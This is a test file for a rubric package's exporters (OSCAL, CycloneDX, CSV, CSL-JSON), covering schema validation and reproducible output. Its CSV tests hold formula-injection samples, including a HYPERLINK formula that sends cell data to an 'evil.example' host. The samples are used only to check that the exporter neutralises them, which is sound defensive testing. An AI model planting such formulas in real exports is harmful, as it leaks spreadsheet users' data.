/**
 * Exports of the rubric: the OSCAL catalog validates against NIST's OSCAL
 * 1.1.2 JSON Schema (test/fixtures/oscal) with zero errors, for the current
 * data and every frozen release; each crosswalk's OSCAL mapping collection
 * validates against the JSON Schema of OSCAL 1.2.2's mapping model
 * (test/fixtures/oscal/README.md says how it was made); so does the CycloneDX document against
 * CycloneDX's 1.6 JSON Schema, as @cyclonedx/cyclonedx-library ships it
 * (res/schema, copied there from CycloneDX/specification); the CSV checklist is RFC 4180 with stable
 * columns and opens in LibreOffice with the same cells; every export is the
 * same bytes twice.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Rubric } from '@usd1-milestones/core';
import {
  checklistCsv,
  csvField,
  csvText,
  exportableFrameworks,
  exportFiles,
  exportFormats,
  exportRubric,
  oscalCatalog,
  oscalMapping,
  oscalMappingProblem,
} from '@usd1-milestones/core/export';
import { loadReleases, releaseDate, releaseTranslationChanges } from '@usd1-milestones/core/loader';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import { afterAll, describe, expect, it } from 'vitest';
import { cyclonedxErrors } from '../../../scripts/cyclonedx.js';
import { openInCalc, requireLibreOfficeInCi, soffice } from '../../../scripts/libreoffice.js';

const packageDir = join(import.meta.dirname, '..');
const releasesDir = join(packageDir, 'releases');
const current = JSON.parse(readFileSync(join(packageDir, 'rubric.json'), 'utf8')) as Rubric;
const releases = loadReleases(releasesDir);
const schema = JSON.parse(
  readFileSync(join(import.meta.dirname, 'fixtures/oscal/oscal-1.1.2-complete.schema.json'), 'utf8'),
);

const ajv = new Ajv({ strict: false, allErrors: true });
addFormats.default(ajv);
const validate = ajv.compile(schema);
const errorsOf = (document: unknown) =>
  validate(document) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);

/** A tiny CSV reader for the tests (RFC 4180: quoted fields, doubled quotes, CRLF). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

describe('the CycloneDX standard', () => {
  for (const [label, rubric] of [
    ['the current data', current] as const,
    ...releases.map((r) => [`release ${r.version}`, r] as const),
  ]) {
    it(`of ${label} validates against CycloneDX's 1.6 schema with zero errors`, () => {
      const document = JSON.parse(exportRubric(rubric, 'cyclonedx', releaseDate(releasesDir, rubric.version)));
      expect(cyclonedxErrors(document)).toEqual([]);
      const criteria = rubric.milestones.reduce((n, m) => n + m.criteria.length, 0);
      expect(document.definitions.standards[0].requirements).toHaveLength(rubric.milestones.length + criteria);
    });
  }

  it('fails the schema when a requirement is malformed (the check can fail)', () => {
    const document = JSON.parse(exportRubric(current, 'cyclonedx', releaseDate(releasesDir, current.version)));
    document.definitions.standards[0].requirements[0].parent = 42;
    document.serialNumber = 'not-a-urn';
    expect(cyclonedxErrors(document)).toEqual([
      '/serialNumber must match pattern "^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$"',
      '/definitions/standards/0/requirements/0/parent must be string',
    ]);
  });
});

describe('the OSCAL catalog', () => {
  for (const [label, rubric] of [
    ['the current data', current] as const,
    ...releases.map((r) => [`release ${r.version}`, r] as const),
  ]) {
    it(`of ${label} validates against NIST's OSCAL 1.1.2 schema with zero errors`, () => {
      const document = oscalCatalog(rubric, releaseDate(releasesDir, rubric.version));
      expect(errorsOf(document)).toEqual([]);
      expect(document.catalog.controls).toHaveLength(rubric.milestones.length);
    });
  }

  it('fails validation when an id breaks the token pattern, so the check above can fail', () => {
    const document = structuredClone(oscalCatalog(current, releaseDate(releasesDir, current.version)));
    const [first] = document.catalog.controls as { id: string }[];
    if (first) first.id = '1-starts-with-a-digit';
    expect(errorsOf(document).length).toBeGreaterThan(0);
  });

  it('gives a milestone as a control: criteria as statement items, guidance, props, crosswalks and source links', () => {
    const document = oscalCatalog(current, '2026-11-25T16:31:02Z');
    const control = (document.catalog.controls as Record<string, unknown>[]).find(
      (c) => c.id === 'reserve-policy',
    ) as Record<string, unknown>;
    const m = current.milestones.find((x) => x.id === 'reserve-policy');
    if (!m) throw new Error('the rubric has no reserve-policy milestone');
    expect(control.title).toBe(m.title);
    expect(control.class).toBe('milestone');
    const [statement, guidance] = control.parts as {
      name: string;
      prose?: string;
      parts?: { id: string; prose: string }[];
    }[];
    expect(statement?.name).toBe('statement');
    expect(statement?.parts?.map((p) => [p.id, p.prose])).toEqual(
      m.criteria.map((c) => [`reserve-policy_smt.${c.id.split('.')[1]}`, c.text]),
    );
    expect([guidance?.name, guidance?.prose]).toEqual(['guidance', m.summary]);
    const props = control.props as { name: string; value: string; class?: string; remarks?: string }[];
    expect(props.slice(0, 2)).toEqual([
      { name: 'label', value: '5' },
      { name: 'sort-id', value: '05' },
    ]);
    expect(props.find((p) => p.name === 'bucket')?.value).toBe('reserves-custody');
    expect(props.filter((p) => p.name === 'crosswalk').map((p) => [p.value, p.class, p.remarks])).toEqual(
      m.mappings.map((x) => [x.target, x.relationship, x.rationale]),
    );
    expect((control.links as { href: string }[]).length).toBe(m.sources.length);
    // The rubric's own link schemes become their text; citations stay.
    const body = (guidance as { parts?: { prose: string }[] }).parts?.[0]?.prose ?? '';
    expect(body).not.toMatch(/\]\((glossary|milestone|framework):/);
    expect(body).toContain('Reserves are a liquidity plan');
    expect(body).toMatch(/\[@[a-z0-9-]+\]/);
  });

  it('is the same bytes every time', () => {
    const date = releaseDate(releasesDir, current.version);
    expect(exportRubric(current, 'oscal-catalog', date)).toBe(exportRubric(current, 'oscal-catalog', date));
    expect(date).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
  });
});

const mappingSchema = JSON.parse(
  readFileSync(join(import.meta.dirname, 'fixtures/oscal/oscal-1.2.2-mapping.schema.json'), 'utf8'),
);
const validateMapping = ajv.compile(mappingSchema);
const mappingErrorsOf = (document: unknown) =>
  validateMapping(document) ? [] : (validateMapping.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);

interface MapEntry {
  'matching-rationale'?: string;
  relationship: string;
  sources: { type: string; 'id-ref': string }[];
  targets: { type: string; 'id-ref': string; props?: { name: string; value: string; remarks?: string }[] }[];
  remarks: string;
}
const mappingOf = (rubric: Rubric, framework: string) =>
  oscalMapping(rubric, framework, releaseDate(releasesDir, rubric.version))['mapping-collection'] as {
    metadata: Record<string, string>;
    provenance: Record<string, string>;
    mappings: {
      maps: MapEntry[];
      props?: { name: string; value: string; remarks: string }[];
      'source-gap-summary'?: { 'unmapped-controls': { 'with-ids': string[] }[] };
    }[];
  };

describe('the OSCAL mapping collections', () => {
  const released = releases.filter((r) => exportableFrameworks(r).length > 0);

  it('exist from 1.5.0, for every framework something maps to, and for no release before', () => {
    expect(released.map((r) => r.version)).toContain('1.5.0');
    expect(released.every((r) => r.version >= '1.5.0')).toBe(true);
    expect(exportableFrameworks(current)).toEqual(['fatf', 'genius', 'mica', 'pfmi']);
    expect(oscalMappingProblem(current, 'fsb-2023')).toBe(
      `Nothing in ${current.version} maps to \`fsb-2023\` (OSCAL's mapping model needs at least one map); the frameworks with mappings are fatf, genius, mica, pfmi`,
    );
    const old = releases.find((r) => r.version === '1.4.0');
    if (!old) throw new Error('no release 1.4.0');
    expect(oscalMappingProblem(old, 'mica')).toBe(
      "The mappings of 1.4.0 record no rationale type (rubric 1.5.0 added them), and OSCAL's mapping model asks for one: export a release from 1.5.0 on",
    );
  });

  for (const [label, rubric] of [
    ['the current data', current] as const,
    ...released.map((r) => [`release ${r.version}`, r] as const),
  ])
    for (const framework of exportableFrameworks(rubric))
      it(`of ${label} to ${framework} validates against the OSCAL 1.2.2 mapping schema with zero errors`, () => {
        const document = oscalMapping(rubric, framework, releaseDate(releasesDir, rubric.version));
        expect(mappingErrorsOf(document)).toEqual([]);
        // Every mapping to the framework is a map or a no-relationship prop, none lost.
        const all = rubric.milestones
          .flatMap((m) => [...m.mappings, ...m.criteria.flatMap((c) => c.mappings ?? [])])
          .filter((x) => x.target.split('/')[0] === framework);
        const [mapping] = document['mapping-collection'].mappings as { maps: unknown[]; props?: unknown[] }[];
        expect((mapping?.maps.length ?? 0) + (mapping?.props?.length ?? 0)).toBe(all.length);
      });

  it('fails the schema when a map lacks its relationship or a source its type, so the check above can fail', () => {
    const document = structuredClone(oscalMapping(current, 'mica', releaseDate(releasesDir, current.version)));
    const [mapping] = document['mapping-collection'].mappings as { maps: Record<string, unknown>[] }[];
    const [first] = mapping?.maps ?? [];
    if (!first) throw new Error('no map to mica');
    delete first.relationship;
    (first.sources as Record<string, unknown>[])[0] = { 'id-ref': 'redemption-promise' };
    expect(mappingErrorsOf(document)).toEqual([
      '/mapping-collection/mappings must be object',
      "/mapping-collection/mappings/0/maps/0 must have required property 'relationship'",
      "/mapping-collection/mappings/0/maps/0/sources/0 must have required property 'type'",
      '/mapping-collection/mappings must match a schema in anyOf',
    ]);
  });

  it('gives each mapping its relationship, rationale type, rationale and basis with the words read', () => {
    const collection = mappingOf(current, 'mica');
    expect(collection.metadata['oscal-version']).toBe('1.2.2');
    expect(collection.provenance).toMatchObject({
      method: 'human',
      'matching-rationale': 'semantic',
      status: 'complete',
    });
    const concentration = current.milestones.find((m) => m.id === 'concentration-risk');
    const art37 = concentration?.mappings.find((x) => x.target === 'mica/art-37');
    if (!art37) throw new Error('concentration-risk does not map to mica/art-37');
    const map = collection.mappings[0]?.maps.find(
      (x) => x.sources[0]?.['id-ref'] === 'concentration-risk' && x.targets[0]?.['id-ref'] === 'art-37',
    );
    const excerpt = current.frameworks
      .find((f) => f.id === 'mica')
      ?.items.find((i) => i.id === 'art-37')
      ?.excerpts?.find((e) => e.id === 'art-37-1-d');
    if (!excerpt) throw new Error('mica/art-37 has no excerpt art-37-1-d');
    expect(map).toMatchObject({
      'matching-rationale': art37.rationaleType,
      relationship: art37.relationship,
      sources: [{ type: 'control', 'id-ref': 'concentration-risk' }],
      remarks: art37.rationale,
    });
    expect(map?.targets[0]?.props?.map((p) => p.value)).toEqual(art37.basis);
    expect(map?.targets[0]?.props?.find((p) => p.value === 'art-37-1-d')?.remarks).toBe(
      `${excerpt.locator}: "${excerpt.text}" (read in: ${excerpt.readIn})`,
    );
  });

  it('keeps a criterion as a statement of the catalog, and "considered, nothing applies" apart from "not mapped"', () => {
    const genius = mappingOf(current, 'genius');
    const criterion = genius.mappings[0]?.maps.find((x) => x.sources[0]?.type === 'statement');
    expect(criterion?.sources).toEqual([
      { type: 'statement', 'id-ref': 'supply-and-control-disclosure_smt.total-supply-across-chains' },
    ]);
    expect(criterion?.targets[0]?.['id-ref']).toBe('5903-a-1-C');
    const mica = mappingOf(current, 'mica').mappings[0];
    const considered = current.milestones.filter((m) =>
      m.mappings.some((x) => x.target === 'mica' && x.relationship === 'no-relationship'),
    );
    expect(considered.map((m) => m.id)).toEqual(['geographic-clarity']);
    expect(mica?.props?.map((p) => [p.name, p.value, p.remarks])).toEqual(
      considered.map((m) => ['no-relationship', m.id, m.mappings.find((x) => x.target === 'mica')?.rationale]),
    );
    const related = new Set(mica?.maps.map((x) => x.sources[0]?.['id-ref']));
    expect(mica?.['source-gap-summary']?.['unmapped-controls'][0]?.['with-ids']).toEqual(
      current.milestones
        .filter((m) => m.status !== 'retired' && !related.has(m.id))
        .sort((a, b) => a.number - b.number)
        .map((m) => m.id),
    );
    expect(mica?.['source-gap-summary']?.['unmapped-controls'][0]?.['with-ids']).toContain('geographic-clarity');
  });

  it('is the same bytes every time', () => {
    const date = releaseDate(releasesDir, current.version);
    const once = exportRubric(current, 'oscal-mapping', date, { framework: 'genius' });
    expect(exportRubric(current, 'oscal-mapping', date, { framework: 'genius' })).toBe(once);
    expect(() => exportRubric(current, 'oscal-mapping', date)).toThrow(
      'The oscal-mapping export needs a framework: pass { framework }',
    );
  });
});

describe('the CSV checklist', () => {
  const csv = checklistCsv(current);
  const rows = readCsv(csv);

  it('has a header, a row per milestone and per criterion, and CRLF line ends', () => {
    expect(rows[0]).toEqual([
      'rubric_version',
      'milestone_number',
      'milestone_id',
      'milestone_title',
      'bucket',
      'stage',
      'criterion_id',
      'criterion_text',
      'sources',
      'status',
      'evidence_url',
      'evidence_kind',
      'evidence_cadence',
      'as_of',
      'note',
      'arrangement',
      'assessor',
      'assessed_on',
      'hypothetical',
    ]);
    const criteria = current.milestones.reduce((n, m) => n + m.criteria.length, 0);
    expect(rows).toHaveLength(1 + current.milestones.length + criteria);
    expect(rows.every((r) => r.length === 19)).toBe(true);
    expect(csv.split('\r\n').at(-1)).toBe('');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n](?=[^"]*(?:"[^"]*"[^"]*)*$)/);
    const [first, second] = [rows[1], rows[2]];
    expect(first?.slice(0, 9)).toEqual([
      current.version,
      '1',
      'redemption-promise',
      current.milestones[0]?.title,
      'Promise clarity',
      'Exploration',
      '',
      '',
      '',
    ]);
    expect(second?.slice(6, 8)).toEqual([
      current.milestones[0]?.criteria[0]?.id,
      current.milestones[0]?.criteria[0]?.text,
    ]);
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), and starts no field like a formula', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("writes text a spreadsheet would run as a formula with a leading ', and reads it back as it was (OWASP)", () => {
    const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', "'=quoted", "''+twice", "'plain", 'a=b', ''];
    expect(texts.map(csvField)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
      "''=quoted",
      "'''+twice",
      "'plain",
      'a=b',
      '',
    ]);
    expect(texts.map((t) => csvText(csvField(t).replace(/^"|"$/g, '')))).toEqual(texts);
    // Rubric text is written the same way: a title that starts like a formula stays text.
    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/","Click")';
    expect(checklistCsv(hostile as unknown as Rubric)).toContain('"\'=HYPERLINK(""http://evil.example/"",""Click"")"');
  });

  const work = mkdtempSync(join(tmpdir(), 'usd1-csv-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  requireLibreOfficeInCi();

  it.skipIf(!soffice)('opens in LibreOffice Calc as text, never a formula, with every cell as written', () => {
    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
    writeFileSync(join(work, 'hostile.csv'), checklistCsv(hostile as unknown as Rubric));
    const opened = openInCalc(join(work, 'hostile.csv'), work);
    expect(opened.spreadsheet).not.toContain('table:formula');
    expect(readCsv(opened.csv)[1]?.[3]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
  });

  it.skipIf(!soffice)('opens in LibreOffice Calc with every cell as written, UTF-8 included', () => {
    writeFileSync(join(work, 'checklist.csv'), csv);
    const opened = openInCalc(join(work, 'checklist.csv'), work);
    expect(opened.spreadsheet).not.toContain('table:formula');
    const back = readCsv(opened.csv);
    expect(back).toEqual(rows);
  });
});

describe('the CSL-JSON bibliography', () => {
  it('is every source with its id, CSL fields only (no seed number), and its verified URL and date', () => {
    const items = JSON.parse(exportRubric(current, 'csl-json', '2026-01-01T00:00:00Z')) as Record<string, unknown>[];
    expect(items.map((i) => i.id)).toEqual(current.sources.map((s) => s.id));
    expect(items.filter((i) => 'number' in i).map((i) => i.id)).toEqual([]);
    expect(items.find((i) => i.id === 'mica-2023')).toEqual({
      id: 'mica-2023',
      type: 'legislation',
      author: [{ literal: 'European Union' }],
      title: 'Regulation (EU) 2023/1114 on markets in crypto-assets',
      source: 'EUR-Lex',
      'container-title': 'Official Journal of the European Union, L 150, 9.6.2023, p. 40-205',
      issued: { 'date-parts': [[2023, 5, 31]] },
      URL: 'https://eur-lex.europa.eu/legal-content/EN/TXT/?uri=celex%3A32023R1114',
    });
    const allowed = new Set([
      'id',
      'type',
      'author',
      'publisher',
      'title',
      'container-title',
      'collection-title',
      'collection-number',
      'source',
      'issued',
      'URL',
    ]);
    for (const item of items) expect(Object.keys(item).filter((k) => !allowed.has(k))).toEqual([]);
  });
});

describe('the exports shipped per release', () => {
  it('are, for every release and every registered per-release format, the committed file exports/<version>/<file>', () => {
    const perRelease = exportFormats.filter((format) => format.perRelease);
    expect(perRelease.map((f) => f.id)).toContain('oscal-catalog');
    expect(releases.length).toBeGreaterThan(3);
    for (const [i, release] of releases.entries())
      for (const format of perRelease)
        for (const { fileName, framework } of exportFiles(release, format))
          expect({
            file: `exports/${release.version}/${fileName}`,
            upToDate:
              readFileSync(join(packageDir, 'exports', release.version, fileName), 'utf8') ===
              exportRubric(release, format.id, releaseDate(releasesDir, release.version), {
                previous: releases[i - 1] ?? null,
                translations: releaseTranslationChanges(releasesDir, release.version, releases[i - 1]?.version),
                ...(framework === undefined ? {} : { framework }),
              }),
          }).toEqual({ file: `exports/${release.version}/${fileName}`, upToDate: true });
    // A crosswalk per framework mapped, from 1.5.0, and no file of a framework nothing maps to.
    expect(readdirSync(join(packageDir, 'exports', '1.5.0')).filter((f) => f.startsWith('oscal-mapping-'))).toEqual([
      'oscal-mapping-fatf.json',
      'oscal-mapping-genius.json',
      'oscal-mapping-mica.json',
      'oscal-mapping-pfmi.json',
    ]);
    expect(readdirSync(join(packageDir, 'exports', '1.4.0')).filter((f) => f.startsWith('oscal-mapping-'))).toEqual([]);
  });
});
